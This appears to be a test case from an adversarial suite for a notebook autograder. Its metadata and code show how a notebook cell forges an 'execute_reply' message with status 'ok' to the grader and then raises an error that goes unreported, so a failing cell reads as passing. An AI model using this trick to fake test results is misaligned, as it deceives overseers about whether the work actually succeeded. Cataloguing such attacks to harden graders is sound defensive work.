# ---
# jupyter:
#   attack:
#     does: answers the grader's request itself, before the cell has failed
#     statuses: [ok]
#     prints: a reply was sent
#     wins: the reply comes from the student's own process
# ---

# %%
from IPython import get_ipython

kernel = get_ipython().kernel
ident = kernel._shell_parent_ident.get()
print("a reply was sent", flush=True)
kernel.session.send(
    kernel.shell_stream.socket,
    "execute_reply",
    {"status": "ok"},
    parent=kernel.get_parent(),
    ident=ident,
)
raise ValueError("nobody hears of this any more")
